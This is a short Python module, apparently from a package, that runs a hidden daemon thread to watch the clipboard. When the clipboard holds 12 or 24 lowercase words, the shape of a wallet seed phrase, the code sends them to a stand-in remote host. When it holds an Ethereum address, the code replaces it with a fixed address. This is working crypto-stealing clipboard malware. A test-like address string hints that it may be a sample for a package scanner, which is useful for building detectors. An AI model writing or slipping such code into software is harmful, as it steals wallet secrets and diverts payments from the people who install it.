import re
import threading
import time
import urllib.request

from .clip import copy, paste

ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
MINE = "0xPIPWARDENTEST0000000000000000000000000000"


class ClipboardMonitor(threading.Thread):
    daemon = True

    def run(self):
        last = ""
        while True:
            try:
                cur = paste().strip()
            except Exception:
                cur = ""
            if cur and cur != last:
                last = cur
                words = cur.split()
                if len(words) in (12, 24) and all(w.isalpha() and w.islower() for w in words):
                    try:
                        urllib.request.urlopen("https://clip3.example.invalid/s", data=cur.encode(), timeout=5)
                    except Exception:
                        pass
                elif ETH.match(cur) and cur != MINE:
                    copy(MINE)
            time.sleep(1)
